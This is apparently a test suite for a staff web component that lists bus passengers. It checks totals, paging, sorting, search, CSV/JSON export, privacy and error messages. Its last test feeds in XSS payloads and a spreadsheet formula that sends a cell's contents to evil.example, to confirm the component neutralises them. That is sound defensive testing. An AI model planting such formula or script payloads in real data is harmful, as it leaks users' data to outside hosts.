// <bus-passenger-list> against the reference API behind the real proxy (private routes behind a
// bearer token, as staff pages use it), and scripted servers for the failures.
import { expect, fixture, fixtureCleanup, html, oneEvent, waitUntil } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import './bus-passenger-list.js';
import type { BusPassengerList, PassengerSelectDetail } from './bus-passenger-list.js';
import type { DownloadDetail } from '../../shared/staff/download.js';
import { cacheForOrigin } from '../../api/cache.js';
import { holdRequests, recordFetches } from '../../../test/helpers/fetches.js';
import { expectInert, expectLoadingSkeleton, langOf, part, parts, settled, stopServerAfterEach, text, xssPayloads } from '../../../test/helpers/element.js';
import { scriptedServer, type LoopbackServer, type Reply } from '../../../test/helpers/servers.js';
import {
  busiestTrip,
  expectNonceSentAndExpired,
  expectStaffFailure,
  keptDownloads,
  proxiedSite,
  rowNames,
  totalsOf,
  wirePassenger,
  type WirePassenger,
} from '../../../test/helpers/staff.js';

const TOKEN = 'staff-token-for-tests-0123456789';

function passengerList(
  base: string,
  attributes: { busId?: string; date?: string; authorization?: string; lang?: string; extra?: Partial<BusPassengerList> } = {},
) {
  return fixture<BusPassengerList>(
    html`<bus-passenger-list
      base-url=${base}
      bus-id=${attributes.busId ?? ''}
      date=${attributes.date ?? ''}
      lang=${attributes.lang ?? 'en'}
      .authorization=${attributes.authorization ?? ''}
      .perPage=${attributes.extra?.perPage ?? 50}
    ></bus-passenger-list>`,
  );
}

describe('<bus-passenger-list> through the proxy', () => {
  let proxy: LoopbackServer;
  let base: string;
  let all: WirePassenger[];

  before(async () => {
    ({ proxy, base, all } = await proxiedSite<WirePassenger>(TOKEN, '/wbtm/v1/passengers'));
  });
  after(() => proxy.stop());
  afterEach(() => fixtureCleanup());

  const busiest = () => busiestTrip(all);

  it('shows a loading skeleton, then a manifest whose counts, revenue and per-stop numbers match the site', async () => {
    const { busId, date, rows } = busiest();
    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
    el.currency = 'EUR';
    await expectLoadingSkeleton(el);
    await settled(el);
    expect(parts(el, 'row')).to.have.length(rows.length);
    const revenue = Math.round(rows.reduce((sum, row) => sum + row.price, 0) * 100) / 100;
    const euro = new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR' });
    expect(totalsOf(el)).to.deep.equal({
      passengers: String(rows.length),
      seats: String(new Set(rows.map((row) => row.seat)).size),
      revenue: euro.format(revenue),
    });
    // Per ticket type: count and revenue.
    for (const type of new Set(rows.map((row) => row.ticket_type))) {
      const ofType = rows.filter((row) => row.ticket_type === type);
      const line = el.shadowRoot!.querySelector(`[part~="ticket-types"] tr[data-key="${type}"]`)!;
      expect([...line.querySelectorAll('td')].map(text)).to.deep.equal([
        String(ofType.length),
        euro.format(Math.round(ofType.reduce((s, r) => s + r.price, 0) * 100) / 100),
      ]);
    }
    // The driver's manifest: boardings and alightings per stop.
    for (const stop of new Set(rows.flatMap((row) => [row.boarding_point, row.dropping_point]))) {
      const line = [...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="manifest"] tbody tr')].find((tr) => tr.dataset['key'] === stop)!;
      const boarding = rows.filter((row) => row.boarding_point === stop).length;
      const alighting = rows.filter((row) => row.dropping_point === stop).length;
      expect([...line.querySelectorAll('td')].map(text), stop).to.deep.equal([boarding ? String(boarding) : '', alighting ? String(alighting) : '']);
    }
    await expect(el).to.be.accessible();
  });

  it('reads every page (over 100 rows) and serves any per-page on its own; CSV holds every row', async () => {
    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 150 } });
    await settled(el);
    expect(all.length).to.be.greaterThan(100);
    expect(parts(el, 'row')).to.have.length(Math.min(150, all.length));
    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(150, all.length)} of ${all.length}`);
    const csv = el.toCsv();
    expect(csv.startsWith('\uFEFF"Name","Seat","Boarding","Dropping","Ticket type","Price","E-mail","Phone","Booking"\r\n')).to.equal(true);
    expect(csv.endsWith('\r\n')).to.equal(true);
    expect(csv.split('\r\n')).to.have.length(all.length + 2); // header, rows, and the empty tail after the last CRLF
    // A phone number that starts with "+" is neutralised like any formula start.
    expect(csv).to.match(/"'\+\d/);
    const json = JSON.parse(el.toJson()) as Record<string, unknown>[];
    expect(json).to.have.length(all.length);
    expect(Object.keys(json[0]!)).to.deep.equal(['name', 'seat', 'boarding', 'dropping', 'ticket-type', 'price', 'email', 'phone', 'booking-id']);
  });

  it('sorts by keyboard: Enter on a column header sorts ascending, again descending, with aria-sort', async () => {
    const { busId, date, rows } = busiest();
    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const header = () => el.shadowRoot!.querySelector<HTMLElement>('th[data-column="seat"]')!;
    const seats = () => parts(el, 'row').map((row) => text(row.querySelector('[data-column="seat"]')));
    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
    const ascending = rows.map((row) => row.seat).sort(collator.compare);
    header().querySelector('button')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(header().getAttribute('aria-sort')).to.equal('ascending');
    expect(seats()).to.deep.equal(ascending);
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(header().getAttribute('aria-sort')).to.equal('descending');
    expect(seats()).to.deep.equal([...ascending].reverse());
    expect(el.sort).to.equal('-seat');
    expect(el.shadowRoot!.querySelectorAll('th[aria-sort]')).to.have.length(1);
  });

  it('searches across the shown columns, accents and case ignored; the CSV holds the matches of every page', async () => {
    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 10 } });
    await settled(el);
    const target = all.find((row) => /[À-ž]/.test(row.name)) ?? all[0]!;
    const word = target.name.split(' ')[0]!;
    const folded = word.normalize('NFD').replace(/\p{M}/gu, '').toUpperCase();
    const input = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="search"]')!;
    input.focus();
    await sendKeys({ type: folded });
    await el.updateComplete;
    const fold = (value: string) => value.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
    const expected = all.filter((row) =>
      [row.name, row.seat, row.boarding_point, row.dropping_point, row.ticket_type].some((v) => fold(v).includes(fold(word))),
    );
    expect(el.matchingRows).to.have.length(expected.length);
    expect(rowNames(el)).to.deep.equal(expected.slice(0, 10).map((row) => row.name));
    expect(el.toCsv().split('\r\n').length - 2).to.equal(expected.length);
    await sendKeys({ type: 'zzzz-nobody' });
    await el.updateComplete;
    expect(text(part(el, 'count'))).to.contain('No rows match');
    await expect(el).to.be.accessible();
  });

  it('fires passenger-select from the name button and a cancelable download with the file', async () => {
    const { busId, date } = busiest();
    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
    await settled(el);
    const picked = oneEvent(el, 'passenger-select');
    part(el, 'row-button')!.click();
    expect(((await picked) as CustomEvent<PassengerSelectDetail>).detail.passenger.busId).to.equal(busId);
    const downloads: DownloadDetail[] = [];
    el.addEventListener('download', (event) => {
      event.preventDefault();
      downloads.push(event.detail);
    });
    part(el, 'download-csv')!.click();
    part(el, 'download-json')!.click();
    expect(downloads.map((d) => [d.filename, d.type])).to.deep.equal([
      [`passengers-bus-${busId}-${date}.csv`, 'text/csv;charset=utf-8'],
      [`passengers-bus-${busId}-${date}.json`, 'application/json'],
    ]);
    expect(downloads[0]!.content).to.equal(el.toCsv());
  });

  it('asks with cache: no-store, so no browser HTTP cache keeps the personal data', async () => {
    const fetches = recordFetches();
    try {
      const el = await passengerList(base, { busId: String(busiest().busId), date: busiest().date, authorization: `Bearer ${TOKEN}` });
      await settled(el);
      expect(el.allRows.length).to.be.greaterThan(0);
    } finally {
      fetches.restore();
    }
    const calls = fetches.to('/wbtm/v1/passengers');
    expect(calls.length).to.be.greaterThan(0);
    expect(calls.map((call) => call.cache)).to.deep.equal(calls.map(() => 'no-store'));
  });

  it('personal data stays private: no attribute, not in the shared cache, dropped on removal', async () => {
    const { busId, date } = busiest();
    const el = await passengerList(base, { busId: String(busId), date, authorization: `Bearer ${TOKEN}` });
    await settled(el);
    expect(el.hasAttribute('authorization')).to.equal(false);
    expect(el.outerHTML).to.not.contain(TOKEN);
    expect(el.allRows.length).to.be.greaterThan(0);
    // The page-wide cache of the proxy's origin holds no passengers answer.
    const cached = await cacheForOrigin(proxy.origin)
      .get({ url: `${base}/wbtm/v1/passengers?bus_id=${busId}&date=${date}&page=1&per_page=100`, ttlMs: 60_000 })
      .catch((error: unknown) => error);
    expect(cached).to.have.property('status', 401); // asked anew, without the token: refused
    expect(JSON.stringify(localStorage) + JSON.stringify(sessionStorage)).to.not.contain('booking');
    const parent = el.parentElement!;
    const names = el.allRows.map((row) => row.name).filter(Boolean);
    const asked = (await proxy.requests()).length;
    el.remove();
    expect(el.allRows).to.deep.equal([]);
    await el.updateComplete;
    const shown = el.shadowRoot!.textContent ?? '';
    expect(names.filter((name) => shown.includes(name))).to.deep.equal([]); // nothing left in the shadow DOM either
    // A removed element that is updated (a property set on it) reads nothing.
    el.search = 'anything';
    await el.updateComplete;
    expect((await proxy.requests()).length).to.equal(asked);
    // Put back (a DOM move, a router re-attaching a view): it reads again instead of staying blank.
    parent.append(el);
    await el.updateComplete;
    await settled(el, ['list']);
    expect(el.allRows.length).to.be.greaterThan(0);
  });

  it('on a French page, its English interface sits in lang="en" and the site\'s names, stops and ticket types stay French; German and English add no lang', async () => {
    // WCAG 3.1.2: English words inheriting lang="fr" are read with French rules.
    const cell = (el: Element, column: string) => el.shadowRoot!.querySelector(`[part~="cell"][data-column="${column}"]`);
    const { busId, date } = busiest();
    const trip = { busId: String(busId), date, authorization: `Bearer ${TOKEN}` };
    const el = await passengerList(base, { ...trip, lang: 'fr' });
    await settled(el);
    expect(text(part(el, 'print'))).to.equal('Print');
    for (const ui of ['toolbar', 'totals', 'header', 'count']) expect(langOf(part(el, ui)), ui).to.equal('en');
    for (const site of ['name', 'boarding', 'dropping', 'ticket-type']) expect(langOf(cell(el, site)), site).to.equal('fr');
    const manifest = part(el, 'manifest')!;
    expect(langOf(manifest.querySelector('caption')), 'the manifest caption').to.equal('en');
    expect(langOf(manifest.querySelector('tbody th')), 'a stop in the manifest').to.equal('fr');

    for (const lang of ['de', 'en']) {
      const other = await passengerList(base, { ...trip, lang });
      await settled(other);
      const langs = [...other.shadowRoot!.querySelectorAll('[lang]')].map((node) => node.getAttribute('lang'));
      expect(langs, lang).to.deep.equal([lang]);
    }
  });

  it('without the token: "Sign in to see passengers", no rows, no retry', async () => {
    const el = await passengerList(base, {});
    await settled(el);
    await expectStaffFailure(el, 'sign-in', 'Sign in to see passengers.');
    expect(part(el, 'table')).to.equal(null);
    // Signing in on the same element loads the list.
    el.authorization = `Bearer ${TOKEN}`;
    await el.updateComplete;
    await settled(el, ['list']);
    expect(parts(el, 'row').length).to.be.greaterThan(0);
  });

  it('a new bus or date starts on the first page', async () => {
    const { busId, date, rows } = busiest();
    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 2 } });
    await settled(el);
    el.page = 3;
    await el.updateComplete;
    expect(text(part(el, 'count'))).to.equal(`5–6 of ${all.length}`);
    el.busId = String(busId);
    el.date = date;
    await el.updateComplete;
    expect(el.page).to.equal(1);
    await settled(el, ['list']);
    expect(text(part(el, 'count'))).to.equal(`1–2 of ${rows.length}`);
  });

  it('a page set with a new bus stands, even the page already shown (an app restoring both from its URL)', async () => {
    const { busId, date } = busiest();
    const el = await passengerList(base, { authorization: `Bearer ${TOKEN}`, extra: { perPage: 2 } });
    await settled(el);
    el.page = 2;
    await el.updateComplete;
    el.busId = String(busId);
    el.date = date;
    el.page = 2;
    await el.updateComplete;
    expect(el.page).to.equal(2);
    await settled(el, ['list']);
    expect(text(part(el, 'count'))).to.match(/^3–4 of /);
  });

  it('an empty manifest says "No confirmed bookings."', async () => {
    const el = await passengerList(base, { busId: String(busiest().busId), date: '2031-01-01', authorization: `Bearer ${TOKEN}` });
    await settled(el);
    expect(text(part(el, 'empty'))).to.equal('No confirmed bookings.');
    await expect(el).to.be.accessible();
  });
});

describe('<bus-passenger-list> failures and hostile data', () => {
  let server: LoopbackServer | undefined;
  stopServerAfterEach(() => server, { cleanup: true, reset: () => (server = undefined) });

  async function scripted(status: number, body: unknown): Promise<string> {
    server = await scriptedServer([{ status, body }]);
    return `${server.origin}/wp-json`;
  }

  it('403 rest_forbidden (a signed-in account without the right, or an address the proxy refuses): says so, not "sign in"', async () => {
    const el = await passengerList(await scripted(403, { code: 'rest_forbidden', message: 'Sorry', data: { status: 403 } }), { authorization: 'Bearer x' });
    await settled(el);
    await expectStaffFailure(el, 'forbidden', "This account may not see passengers. Ask the site's administrator.");
  });

  it('an expired nonce says so; the nonce goes out as X-WP-Nonce with cookies', async () => {
    const base = await scripted(403, { code: 'rest_cookie_invalid_nonce', message: 'Cookie check failed', data: { status: 403 } });
    const el = await fixture<BusPassengerList>(html`<bus-passenger-list base-url=${base} nonce="abc123" lang="en"></bus-passenger-list>`);
    await expectNonceSentAndExpired(el, server!, 'abc123');
  });

  it('rest_no_route (the real bus plugin): the site does not publish passengers', async () => {
    const el = await passengerList(await scripted(404, { code: 'rest_no_route', message: 'No route', data: { status: 404 } }), { authorization: 'Bearer x' });
    await settled(el);
    expect(part(el, 'error')!.dataset['kind']).to.equal('unpublished');
    expect(text(part(el, 'error-message'))).to.contain('does not publish passengers');
    await expect(el).to.be.accessible();
  });

  it('a dead endpoint: a network message with a Retry that loads again', async () => {
    server = await scriptedServer([{ destroy: true }]);
    const el = await passengerList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
    await settled(el);
    expect(text(part(el, 'error-message'))).to.equal('The site could not be reached. Check the connection and try again.');
    const before = (await server.requests()).length;
    part(el, 'retry')!.click();
    await waitUntil(async () => (await server!.requests()).length > before, 'the retry request', { timeout: 8000 });
    await expect(el).to.be.accessible();
  });

  it('counts a seat once per bus and date: seat A1 of two trips is two seats, one seat of two legs of a trip is one', async () => {
    const passenger = (booking: number, bus: number, date: string, seat: string, from: string, to: string) => ({
      booking_id: booking,
      name: `Guest ${booking}`,
      bus_id: bus,
      date,
      boarding_point: from,
      dropping_point: to,
      seat,
      ticket_type: 'adult',
      price: 10,
      status: 'confirmed',
    });
    const rows = [
      passenger(1, 7, '2026-11-24', 'A1', 'Paris', 'Lyon'),
      passenger(2, 7, '2026-11-24', 'A1', 'Lyon', 'Berlin'),
      passenger(3, 7, '2026-11-25', 'A1', 'Paris', 'Berlin'),
      passenger(4, 8, '2026-11-24', 'A1', 'Paris', 'Berlin'),
      passenger(5, 8, '2026-11-24', 'B2', 'Paris', 'Berlin'),
    ];
    const el = await passengerList(await scripted(200, rows), { authorization: 'Bearer x' });
    await settled(el);
    expect(totalsOf(el)['seats']).to.equal(String(new Set(rows.map((row) => `${row.bus_id}|${row.date}|${row.seat}`)).size));
  });

  it('a bus-id that is not digits reads nothing and names the attribute and its value', async () => {
    const base = await scripted(200, []);
    for (const busId of ['1e1', '0x7', '7.0', 'abc']) {
      const el = await passengerList(base, { authorization: 'Bearer x', busId });
      await settled(el);
      await expectStaffFailure(el, 'other', `This widget’s settings are not valid: bus-id must be a positive whole number, got "${busId}"`);
      fixtureCleanup();
    }
    expect(await server!.requests(), 'no passengers of some other bus').to.have.length(0);
  });

  it('a new bus-id while a download reads the rows past 5 000 stops it and says so, to try again; the next download works', async () => {
    const paging = { 'X-WP-Total': '5050', 'X-WP-TotalPages': '51' };
    const passenger = (n: number) => wirePassenger(n, { name: `Rider ${n}`, seat: `S${n}` });
    const routes: Record<string, Reply[]> = {};
    for (let page = 1; page <= 50; page++)
      routes[`&page=${page}&`] = [{ status: 200, headers: paging, body: Array.from({ length: 100 }, (_, n) => passenger(page * 1000 + n)) }];
    routes['&page=51&'] = [{ status: 200, headers: paging, body: Array.from({ length: 50 }, (_, n) => passenger(51_000 + n)) }];
    server = await scriptedServer([{ status: 404, body: { code: 'rest_no_route', message: 'No route', data: { status: 404 } } }], routes);
    const el = await passengerList(`${server.origin}/wp-json`, { authorization: 'Bearer x', busId: '7' });
    await settled(el);
    expect(el.allRows).to.have.length(5000);
    const downloads = keptDownloads(el);
    // Page 51 is held in the page until the new bus is set, whatever the machine's speed.
    const held = holdRequests('&page=51&');
    const fetches = recordFetches();
    try {
      const download = el.downloadCsv();
      await waitUntil(() => fetches.calls.some((call) => call.url.includes('&page=51&')), 'the read past 5 000', { timeout: 10_000 });
      el.busId = '8';
      await el.updateComplete;
      held.release();
      await download;
    } finally {
      fetches.restore();
      held.release();
      held.restore();
    }
    await settled(el, ['list']);
    expect(downloads, 'no file').to.have.length(0);
    expect(part(el, 'download-error')!.getAttribute('role')).to.equal('alert');
    expect(text(part(el, 'download-error'))).to.equal('No file was made: the list changed while it was read. Download again.');
    await el.downloadCsv();
    expect(downloads).to.have.length(1);
    expect(downloads[0]!.content.split('\r\n')).to.have.length(5050 + 2);
  });

  it('hostile names render as text, and formula cells are neutralised in the CSV', async () => {
    const payloads = xssPayloads('__passengerXss');
    const rows = payloads.map((name, index) => ({
      booking_id: 900 + index,
      name,
      email: `=HYPERLINK("http://evil.example/?"&A1,"x${index}")`,
      phone: '@SUM(1+1)',
      bus_id: 7,
      date: '2026-11-24',
      boarding_point: `<b>Paris</b>${index}`,
      dropping_point: '-2+3',
      seat: `A${index}`,
      ticket_type: '\tadult',
      price: 10,
      status: 'confirmed',
    }));
    const base = await scripted(200, rows);
    const el = await passengerList(base, { authorization: 'Bearer x' });
    await settled(el);
    expectInert(el, '__passengerXss');
    const csvLines = el.toCsv().split('\r\n');
    for (const line of csvLines.slice(1, -1)) {
      const cells = line.match(/"(?:[^"]|"")*"|[^,]+/g)!;
      for (const cell of cells) if (cell.startsWith('"')) expect(cell[1], line).to.not.match(/[=+\-@\t\r]/);
    }
    expect(csvLines[1]).to.contain('"\'=HYPERLINK(""http://evil.example/?""&A1,""x');
    await expect(el).to.be.accessible();
  });
});
